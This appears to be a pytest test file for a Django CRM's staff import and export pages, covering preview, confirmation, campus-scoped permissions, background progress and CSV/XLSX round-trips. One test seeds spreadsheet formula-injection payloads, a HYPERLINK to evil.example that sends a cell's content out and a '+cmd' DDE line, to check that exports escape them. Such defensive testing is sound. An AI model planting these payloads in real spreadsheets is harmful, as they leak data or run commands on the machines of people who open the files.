"""The staff import page (upload -> preview -> confirm -> done or progress) and exports."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from crm.models import ImportJob, Student
from crm.services.imports import import_job_progress, import_rows, read_table
from crm.services.imports.jobs import JobProgress, progress_key
from tests import factories
from tests.crm.test_import_support import run, student_row, students_file

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture(autouse=True)
def _media_and_english(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.LANGUAGE_CODE = "en"  # the pages' words, whatever translations exist


def upload(client, content: bytes, *, kind: str = "students", name: str = "学生.csv", **extra: object):
    data = {"kind": kind, "file": SimpleUploadedFile(name, content), **extra}
    return client.post(reverse("import_list"), data)


def test_upload_preview_confirm(client, front_desk, campus_a):
    client.force_login(front_desk)
    assert client.get(reverse("import_list")).status_code == 200
    content = students_file([student_row("张小明", "13800138000"), student_row("张小红", "138-0013-8000")])

    response = upload(client, content)

    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("import_detail", args=[job.pk])
    assert (job.status, job.campus, job.total_rows, job.created_by) == ("previewed", campus_a, 2, front_desk)
    page = client.get(response["Location"]).content.decode()
    assert "Confirm import" in page
    assert "张小红 · 138 0013 8000" in page
    assert not Student.objects.exists()

    response = client.post(reverse("import_confirm", args=[job.pk]))

    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == "done"
    assert job.processed_rows == job.total_rows == 2
    assert job.report["counts"]["new"] == 2
    assert Student.objects.filter(campus=campus_a).count() == 2
    page = client.get(reverse("import_detail", args=[job.pk])).content.decode()
    assert "Confirm import" not in page
    # A second confirm (double click) does nothing.
    client.post(reverse("import_confirm", args=[job.pk]))
    assert Student.objects.count() == 2


def test_errors_mean_no_confirm_button(client, front_desk):
    client.force_login(front_desk)
    rows = [student_row(f"学生{i}", f"1380013{8000 + i}") for i in range(5)] + [student_row("坏行", "12345")]
    response = upload(client, students_file(rows))
    job = ImportJob.objects.get()
    page = client.get(response["Location"]).content.decode()

    assert "Confirm import" not in page
    assert "第 7 行" in page and "家长电话" in page and "“12345” is not a valid phone number." in page
    response = client.post(reverse("import_confirm", args=[job.pk]))
    assert response.status_code == 302
    assert not Student.objects.exists()


def test_unreadable_file_is_reported(client, front_desk):
    client.force_login(front_desk)
    response = upload(client, b"\xff\xfe\x00garbage\x81\x82", name="x.csv")
    page = client.get(response["Location"]).content.decode()
    assert "encoding" in page
    assert "Confirm import" not in page


def test_teacher_is_denied(client, teacher, campus_a, front_desk):
    job = ImportJob.objects.create(kind="students", campus=campus_a, original_name="a.csv", created_by=front_desk)
    client.force_login(teacher)
    assert client.get(reverse("import_list")).status_code == 403
    assert upload(client, students_file([student_row("张小明", "13800138000")])).status_code == 403
    assert client.get(reverse("import_detail", args=[job.pk])).status_code == 403
    assert client.get(reverse("import_export_download", args=["students", "csv"])).status_code == 403
    assert not Student.objects.exists()


def test_another_campus_cannot_see_or_confirm_a_job(client, front_desk, manager_b):
    client.force_login(front_desk)
    upload(client, students_file([student_row("张小明", "13800138000")]))
    job = ImportJob.objects.get()
    client.force_login(manager_b)
    assert client.get(reverse("import_detail", args=[job.pk])).status_code == 404
    assert client.post(reverse("import_confirm", args=[job.pk])).status_code == 404
    assert client.get(reverse("import_progress", args=[job.pk])).status_code == 404
    assert job.original_name not in client.get(reverse("import_list")).content.decode()
    assert not Student.objects.exists()


def test_staff_cannot_choose_another_campus_but_admins_do(client, front_desk, admin_user, campus_b):
    client.force_login(front_desk)
    upload(client, students_file([student_row("张小明", "13800138000")]), campus=campus_b.pk)
    assert ImportJob.objects.get().campus == front_desk.campus  # the field is not offered to staff

    client.force_login(admin_user)
    response = upload(client, students_file([student_row("李雷", "13900139000")]), campus=campus_b.pk)
    job = ImportJob.objects.latest("pk")
    assert job.campus == campus_b
    client.post(reverse("import_confirm", args=[job.pk]))
    assert Student.objects.get(name="李雷").campus == campus_b
    assert response.status_code == 302


def test_large_file_goes_through_the_task_with_progress(
    client, front_desk, settings, eager_tasks, django_capture_on_commit_callbacks
):
    settings.IMPORT_ASYNC_ROW_THRESHOLD = 3
    client.force_login(front_desk)
    rows = [student_row(f"学生{i}", f"1390013{9000 + i}") for i in range(6)]
    upload(client, students_file(rows))
    job = ImportJob.objects.get()
    page = client.get(reverse("import_detail", args=[job.pk])).content.decode()
    assert "imported in the background" in page

    with django_capture_on_commit_callbacks() as callbacks:
        client.post(reverse("import_confirm", args=[job.pk]))
    job.refresh_from_db()
    assert job.status == "queued"  # the task is scheduled after commit, not inside it
    assert not Student.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        for callback in callbacks:
            callback()

    job.refresh_from_db()
    assert job.status == "done"
    assert job.processed_rows == job.total_rows == 6
    assert Student.objects.count() == 6
    fragment = client.get(reverse("import_progress", args=[job.pk])).content.decode()
    assert "hx-trigger" not in fragment  # finished: the page stops polling
    assert "Imported." in fragment


def test_progress_fragment_polls_while_running(client, front_desk, campus_a):
    job = ImportJob.objects.create(
        kind="students", campus=campus_a, original_name="a.csv", created_by=front_desk, status="running", total_rows=100
    )
    ImportJob.objects.filter(pk=job.pk).update(processed_rows=40)
    client.force_login(front_desk)
    fragment = client.get(reverse("import_progress", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in fragment
    assert "40 / 100" in fragment
    cache.set(progress_key(job.pk), {"phase": "writing", "done": 70, "total": 100})
    fragment = client.get(reverse("import_progress", args=[job.pk])).content.decode()
    assert "70 / 100" in fragment
    cache.delete(progress_key(job.pk))


def _csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_exports_escape_formulae(client, front_desk, campus_a):
    factories.StudentFactory(name=HYPERLINK, campus=campus_a, notes="+cmd|' /C calc'!A0")
    client.force_login(front_desk)

    rows = _csv_rows(client.get(reverse("import_export_download", args=["students", "csv"])))
    assert rows[0][:3] == ["学生姓名", "性别", "出生日期"]
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][rows[0].index("备注")] == "'+cmd|' /C calc'!A0"

    response = client.get(reverse("import_export_download", args=["students", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"  # text, not a formula
    assert cell.value == "'" + HYPERLINK


def test_exports_are_scoped_to_the_viewers_campus(client, front_desk, campus_a, campus_b, course_a, course_b):
    mine = factories.StudentFactory(name="本校学生", campus=campus_a)
    theirs = factories.StudentFactory(name="外校学生", campus=campus_b)
    factories.ConsultationFactory(student=mine, content="本校咨询")
    factories.ConsultationFactory(student=theirs, content="外校咨询")
    factories.ContractFactory(student=mine, course=course_a)
    factories.ContractFactory(student=theirs, course=course_b)
    client.force_login(front_desk)

    text = {
        kind: str(_csv_rows(client.get(reverse("import_export_download", args=[kind, "csv"]))))
        for kind in ("students", "consultations", "contracts")
    }
    assert "本校学生" in text["students"] and "外校学生" not in text["students"]
    assert "本校咨询" in text["consultations"] and "外校咨询" not in text["consultations"]
    assert "少儿编程 L1" in text["contracts"] and "美术启蒙" not in text["contracts"]


def test_an_export_imports_back_unchanged(client, front_desk, campus_a, course_a):
    content = students_file(
        [
            student_row(
                "张小明",
                "13800138000",
                性别="男",
                出生日期="2015-03-05",
                家长姓名="张伟",
                关系="爸爸",
                标签="意向:高;兴趣:编程",
                负责顾问="alice",
            ),
            student_row("张小红", "13800138000", 性别="女", 备注="=1+1"),
        ]
    )
    assert run(content, actor=front_desk, campus=campus_a).committed
    ming = Student.objects.get(name="张小明")
    factories.ConsultationFactory(student=ming, consultant=front_desk, content="了解课程")
    factories.ContractFactory(student=ming, course=course_a)
    client.force_login(front_desk)

    for kind in ("students", "consultations", "contracts"):
        for fmt in ("csv", "xlsx"):
            exported = client.get(reverse("import_export_download", args=[kind, fmt])).content
            report = run(exported, actor=front_desk, campus=campus_a, kind=kind, name=f"export.{fmt}")
            assert report.ok, (kind, fmt, report.lines())
            assert report.counts["unchanged"] == report.total_rows > 0, (kind, fmt, report.lines())
    assert Student.objects.get(name="张小红").notes == "=1+1"


def test_empty_template_has_the_headers(client, front_desk):
    client.force_login(front_desk)
    rows = _csv_rows(client.get(reverse("import_template", args=["contracts"])))
    assert rows == [
        [
            "家长电话",
            "学生姓名",
            "课程",
            "课时",
            "金额",
            "实收",
            "签约时间",
            "有效期至",
            "状态",
            "已消课时",
            "退费金额",
            "退费原因",
        ]
    ]


def test_progress_is_reported_while_checking_and_while_writing(front_desk, campus_a):
    calls: list[tuple[str, int, int]] = []
    rows = [student_row(f"学生{i}", f"1370013{i:04d}") for i in range(4500)]
    report = import_rows(
        kind="students",
        table=read_table(students_file(rows), "big.csv"),
        campus=campus_a,
        actor=front_desk,
        dry_run=False,
        progress=lambda phase, done, total: calls.append((phase, done, total)),
    )
    assert report.committed
    checking = [c for c in calls if c[0] == "checking"]
    writing = [c for c in calls if c[0] == "writing"]
    assert checking == [("checking", 2000, 4500), ("checking", 4000, 4500), ("checking", 4500, 4500)]
    assert writing and writing[-1] == ("writing", 4500, 4500)
    assert calls.index(checking[-1]) < calls.index(writing[0])


def test_job_progress_goes_to_the_row_while_checking_and_to_the_cache_while_writing(front_desk, campus_a):
    job = ImportJob.objects.create(
        kind="students", campus=campus_a, original_name="a.csv", created_by=front_desk, status="running", total_rows=100
    )
    report_progress = JobProgress(job.pk)
    report_progress("checking", 40, 100)
    job.refresh_from_db()
    assert job.processed_rows == 40
    assert import_job_progress(job) == {"phase": "checking", "done": 40, "total": 100, "percent": 40}
    report_progress("writing", 70, 100)  # inside the write transaction: the row would not be seen
    job.refresh_from_db()
    assert job.processed_rows == 40
    assert import_job_progress(job) == {"phase": "writing", "done": 70, "total": 100, "percent": 70}
    cache.delete(progress_key(job.pk))


def test_the_import_page_runs_a_constant_number_of_queries(client, front_desk, campus_a, django_assert_num_queries):
    client.force_login(front_desk)

    def make_jobs(n: int) -> None:
        for i in range(n):
            ImportJob.objects.create(kind="students", campus=campus_a, original_name=f"{i}.csv", created_by=front_desk)

    make_jobs(2)
    client.get(reverse("import_list"))  # warm the session and the user's role
    with CaptureQueriesContext(connection) as few:
        assert client.get(reverse("import_list")).status_code == 200
    make_jobs(15)
    with django_assert_num_queries(len(few.captured_queries)):
        assert client.get(reverse("import_list")).status_code == 200


def test_a_landline_exports_as_dialled_and_imports_back_to_its_family(client, front_desk, campus_a, course_a):
    """Defect 2.6: a landline exported as 1062345678 (no leading 0)."""
    guardian = factories.GuardianFactory(phone="+861062345678", name="王芳", relation="妈妈")
    student = factories.StudentFactory(name="王小明", campus=campus_a, guardians=[guardian])
    factories.ConsultationFactory(student=student, consultant=front_desk, content="了解课程")
    factories.ContractFactory(student=student, course=course_a)
    client.force_login(front_desk)

    for kind in ("students", "consultations", "contracts"):
        rows = _csv_rows(client.get(reverse("import_export_download", args=[kind, "csv"])))
        assert rows[1][rows[0].index("家长电话")] == "010-6234 5678", kind
        for fmt in ("csv", "xlsx"):
            exported = client.get(reverse("import_export_download", args=[kind, fmt])).content
            report = run(exported, actor=front_desk, campus=campus_a, kind=kind, name=f"export.{fmt}")
            assert report.ok, (kind, fmt, report.lines())
            assert report.counts["unchanged"] == report.total_rows == 1, (kind, fmt, report.lines())
    assert list(Student.objects.values_list("name", flat=True)) == ["王小明"]
    assert guardian.students.count() == 1
